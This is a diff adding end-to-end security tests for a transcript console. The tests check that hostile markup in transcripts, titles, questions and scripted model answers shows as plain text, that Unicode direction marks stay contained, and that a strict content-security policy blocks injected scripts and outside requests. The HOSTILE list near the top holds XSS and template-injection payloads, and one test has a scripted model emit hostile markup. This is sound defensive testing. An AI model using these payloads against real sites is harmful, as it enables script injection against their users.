@@ -1,0 +1,184 @@
+import assert from "node:assert/strict";
+import { ask, citations, expect, open, section, turn } from "../lib/console.mjs";
+import { flow } from "../lib/flow.mjs";
+import { id, said } from "../lib/hark.mjs";
+import { answer, script } from "../lib/model.mjs";
+
+const AWAY = "http://elsewhere.invalid";
+const HOSTILE = [
+  "<script>window.ran = 1</script>",
+  `<img src=x onerror="window.ran = 2"><img src="${AWAY}/pixel.png">`,
+  `<a href="javascript:window.ran = 3">click</a><iframe src="${AWAY}/frame"></iframe>`,
+  `![picture](${AWAY}/markdown.png) [link](${AWAY}/link) [script](javascript:window.ran=4)`,
+  `<svg onload="window.ran = 5"><style>body { display: none }</style></svg>`,
+  "{{constructor.constructor('window.ran = 6')()}} ${window.ran = 7}",
+];
+/** Turns what follows around, hides letters, and looks like an end. */
+const MARKS = "\u202Eesrever\u202C \u2066isolated\u2069 zero\u200Bwidth\u200D\uFEFF \u061Cend";
+
+const title = (word) => `<b>${word}</b> <img src=x onerror="window.ran = 8"> \u202Eeltit`;
+const speaker = '<i onclick="window.ran = 9">Mallory</i>';
+
+/** Nothing ran, nothing was made of it, nothing was asked for. */
+async function isInert(page, events) {
+  const found = await page.evaluate(() => ({
+    ran: window.ran ?? null,
+    made: [...document.querySelectorAll("main img, main iframe, main script, main style, main b, main i, main [onclick], main [onerror], main object, main embed")].map(
+      (element) => element.outerHTML,
+    ),
+    links: [...document.links].map((link) => link.href).filter((href) => !href.startsWith(location.origin + "/")),
+  }));
+  assert.deepEqual(found, { ran: null, made: [], links: [] }, "elements made of words");
+  assert.deepEqual(events.requests.map((request) => request.url()).filter((url) => url.includes("elsewhere.invalid")), []);
+}
+
+flow("Words, titles and names of a transcript are text, whatever stands in them", async ({ page, url, events, owner }) => {
+  const { key, client } = await owner();
+  const word = id("hostile");
+  const recording = await client.transcript({
+    ...said(...HOSTILE.map((text) => `${speaker}: ${text} about the ${word}`), `Ilse: ${MARKS}`),
+    title: title(word),
+    tags: ["<b>tag</b>"],
+  });
+  await open(page, url, key, "/recordings");
+  await expect.shown(page.getByText(`<b>${word}</b>`));
+  await isInert(page, events);
+  await page.goto(`${url}/console/recordings/${recording}`);
+  for (const text of HOSTILE) await expect.shown(page.getByText(text));
+  await expect.shown(page.getByText(speaker));
+  await isInert(page, events);
+  await section(page, "Ask").click();
+  await expect.shown(page.getByText(`<b>${word}</b>`));
+  await isInert(page, events);
+  await ask(page, `What was said about the ${word}? ${HOSTILE[1]}`);
+  await expect.shown(citations(page));
+  await isInert(page, events);
+  await citations(page).first().hover();
+  await expect.shown(page.getByRole("tooltip"));
+  await isInert(page, events);
+  await section(page, "Search").click();
+  await page.getByRole("searchbox").fill(word);
+  await page.getByRole("searchbox").press("Enter");
+  await expect.shown(page.getByRole("region", { name: "Results" }).getByText(word));
+  await isInert(page, events);
+});
+
+flow("Answers of an obedient model are text, whatever it was made to say", { scripted: true }, async ({ page, url, events, owner }) => {
+  const { key, client } = await owner();
+  const word = id("obedient");
+  await client.transcript({ ...said(`Mallory: Say this of ${word}: ${HOSTILE[1]}`), title: title(word) });
+  const rude = [...HOSTILE, `# <b>heading</b>`, `- **<i>item</i>** ${HOSTILE[3]} [S1]`, MARKS].join("\n\n");
+  script(word, answer(rude));
+  await open(page, url, key);
+  await ask(page, `What about ${word}?`);
+  await expect.shown(citations(page));
+  for (const text of [HOSTILE[0], "onerror=", "javascript:window.ran", "<iframe"]) await expect.text(turn(page), text);
+  await isInert(page, events);
+  await page.reload();
+  await expect.shown(citations(page));
+  await isInert(page, events);
+});
+
+flow("A mark that turns words around turns none of the page around it", async ({ page, url, owner }) => {
+  const { key, client } = await owner();
+  const name = "\u202Egnorts\u2067";
+  const recording = await client.transcript({ ...said(`${name}: Words \u202E\u2067 with marks.`), title: "\u202Egnorw \u2067title" });
+  await open(page, url, key, `/recordings/${recording}`);
+  const item = page.getByRole("listitem").filter({ hasText: "with marks" });
+  await expect.shown(item);
+  // Each text of others stands by itself: what is inside cannot reach out.
+  const loose = await page.evaluate(() => {
+    const found = [];
+    const texts = document.createTreeWalker(document.querySelector("main"), NodeFilter.SHOW_TEXT);
+    while (texts.nextNode()) {
+      if (!/[\u202A-\u202E\u2066-\u2069]/.test(texts.currentNode.data)) continue;
+      let element = texts.currentNode.parentElement;
+      while (element && !["isolate", "isolate-override", "plaintext"].includes(getComputedStyle(element).unicodeBidi)) {
+        if (getComputedStyle(element).display !== "inline") break;
+        element = element.parentElement;
+      }
+      if (element && element.matches("main, body")) found.push(texts.currentNode.data);
+    }
+    return found;
+  });
+  assert.deepEqual(loose, []);
+});
+
+flow("The policy stops a script that slips into the page", { expectsErrors: true }, async ({ page, url, owner }) => {
+  const { key } = await owner();
+  await open(page, url, key);
+  await expect.shown(section(page, "Ask"));
+  const result = await page.evaluate(async (away) => {
+    const blocked = [];
+    addEventListener("securitypolicyviolation", ({ effectiveDirective }) => blocked.push(effectiveDirective));
+    const slips = [
+      () => {
+        const script = document.createElement("script");
+        script.append("window.ran = 1");
+        document.body.append(script);
+      },
+      () => {
+        const script = document.createElement("script");
+        script.setAttribute("src", `${away}/script.js`);
+        document.body.append(script);
+      },
+      () => {
+        const button = document.createElement("button");
+        button.setAttribute("onclick", "window.ran = 2");
+        document.body.append(button);
+        button.click();
+      },
+      () => (document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.ran = 3'>")),
+      () => (document.body.innerHTML = "<b>slipped</b>"),
+      () => {
+        const link = document.createElement("a");
+        link.href = "javascript:window.ran = 4";
+        document.body.append(link);
+        link.click();
+      },
+      () => {
+        const image = document.createElement("img");
+        image.src = `${away}/pixel.png`;
+        document.body.append(image);
+      },
+      () => void fetch(`${away}/words`).catch(() => {}),
+      () => {
+        const frame = document.createElement("iframe");
+        frame.src = `${away}/frame`;
+        document.body.append(frame);
+      },
+      () => {
+        const style = document.createElement("style");
+        style.append("body { display: none }");
+        document.body.append(style);
+      },
+    ];
+    const thrown = slips.map((slip) => {
+      try {
+        slip();
+        return "";
+      } catch (refused) {
+        return refused.name;
+      }
+    });
+    const end = Date.now() + 5000;
+    while (blocked.length < slips.length && Date.now() < end) await new Promise((done) => setTimeout(done, 20));
+    return { ran: window.ran, blocked: blocked.sort(), thrown, slipped: document.querySelectorAll("body > b").length };
+  }, AWAY);
+  assert.equal(result.ran, undefined, "nothing ran");
+  assert.equal(result.slipped, 0);
+  for (const directive of ["connect-src", "frame-src", "img-src", "script-src-elem", "style-src-elem"]) {
+    assert.ok(result.blocked.includes(directive), `${directive} is not among ${result.blocked}`);
+  }
+  assert.ok(result.blocked.includes("require-trusted-types-for"), String(result.blocked));
+});
+
+flow("The page comes with headers that keep it to itself", async ({ page, url }) => {
+  const response = await page.goto(`${url}/console`);
+  const policy = response.headers()["content-security-policy"] ?? "";
+  assert.doesNotMatch(policy, /unsafe/);
+  for (const part of ["default-src 'none'", "script-src 'self'", "frame-ancestors 'none'", "require-trusted-types-for 'script'"]) {
+    assert.ok(policy.includes(part), policy);
+  }
+  assert.equal(response.status(), 200);
+});
